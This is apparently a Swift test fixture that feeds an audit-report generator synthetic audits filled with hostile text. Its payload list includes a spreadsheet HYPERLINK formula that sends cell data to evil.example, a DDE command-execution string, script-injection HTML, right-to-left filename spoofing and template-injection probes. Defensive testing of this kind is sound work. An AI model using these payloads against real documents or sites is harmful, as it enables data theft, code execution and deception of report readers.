import Diagnostics
import GitStore

@testable import Audit
@testable import Evidence
@testable import Policy

extension Fixture {
  /// Texts that somebody might write to break a report or mislead its reader.
  static let hostileTexts = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open me\")",
    "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\"=1+1", "' =1+1",
    "\u{FF1D}1+1", "ordinary;=1+1", "ordinary; \"@SUM(A1)",
    "<script>alert(1)</script>", "</title></style><img src=x onerror=alert(1)>", "a & b &amp; &#60;",
    "safe \u{202E}gnp.exe", "line one\nline two\r\nline three", "she said \"no\", 'never'; \\o/",
    "null\0byte \u{1B}[31mred",
    "zero\u{200B}width \u{2066}isolated\u{2069} soft\u{AD}hyphen", "separators\u{2028}and\u{2029}here",
    "tags \u{E0041}\u{E0042} beyond the first plane", "private \u{E000} \u{10FFFD}", "\u{FEFF}mark",
    "Zażółć gęślą jaźń – 日本語 – e\u{301} – 🛡", "]]> --> <!-- {{7*7}} ${7*7} %s %n", "", " ",
  ]

  /// An audit in which every text that somebody else writes is hostile.
  static var hostile: FinishedAudit {
    let assessments = hostileTexts.enumerated().map { number, text in
      let eve = person(text, text, text, listed: false)
      let subject = id(300 + number)
      var finding = Finding(.approvalNotShown, "text: \(text)", notes: [text, text], help: "\(text)\nrun: \(text)")
      finding.commit = number.isMultiple(of: 2) ? id(20_300 + number) : nil
      return change(
        300 + number, text, at: "2026-02-01T00:00:00Z", commits: 1 + number % 3,
        contributors: [Contributor(identity: eve, roles: Role.allCases)],
        approvals: [
          approval(
            by: eve, of: subject, source: text.isEmpty ? "?" : text,
            objection: Objection(code: .selfApproved, reason: text))
        ],
        tests: [
          run(text.isEmpty ? "?" : text, of: subject, .failed, executed: number, source: "trailer:\(text)", by: eve)
        ],
        findings: [finding])
    }
    var audit = audit(assessments)
    audit.scope.production = "refs/heads/<b>\u{202E}niam"
    audit.scope.origin = "https://example.com/\"><script>alert(1)</script>"
    audit.scope.base = nil
    audit.policyNotes = hostileTexts
    audit.checks[0].detail = "<i>\u{202E}"
    audit.findings = [Finding(.evidenceUnreadable, "<u>\u{1B}[2J", notes: hostileTexts, help: "=1+1\n<pre>")]
    return audit
  }

  static var empty: FinishedAudit {
    var audit = audit([])
    audit.scope.since = nil
    audit.scope.until = nil
    audit.scope.origin = nil
    audit.populationDigest = nil
    audit.checks = []
    return audit
  }

  /// Times that git can hold and RFC 3339 can't write, and people of whom nothing is known.
  static var oddValues: FinishedAudit {
    let nobody = person("", "", "", listed: false)
    var change = change(
      1, "Written in the year 20000", at: "2026-02-01", contributors: [Contributor(identity: nobody, roles: [.author])],
      approvals: [
        approval(by: nobody, of: id(1), objection: Objection(code: .approverMayBeAuthor, reason: "who is that"))
      ],
      tests: [run("unit", of: id(1), by: nobody)])
    change.promotion.at = Instant(seconds: 568_971_820_800)
    change.committedAt = Instant(seconds: .min)
    return audit([change])
  }
}
